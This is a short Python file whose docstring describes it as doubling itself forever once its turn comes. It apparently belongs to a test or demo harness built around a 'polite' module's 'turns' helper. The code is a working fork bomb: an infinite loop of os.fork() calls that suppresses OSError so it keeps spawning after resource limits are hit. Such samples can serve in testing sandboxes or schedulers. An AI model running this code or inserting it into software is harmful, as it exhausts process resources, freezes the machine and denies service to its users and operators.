"""Doubles itself for ever when its first turn comes."""

import os
from contextlib import suppress

from polite import turns

for _ in turns("fork_bomb"):
    while True:
        with suppress(OSError):
            os.fork()
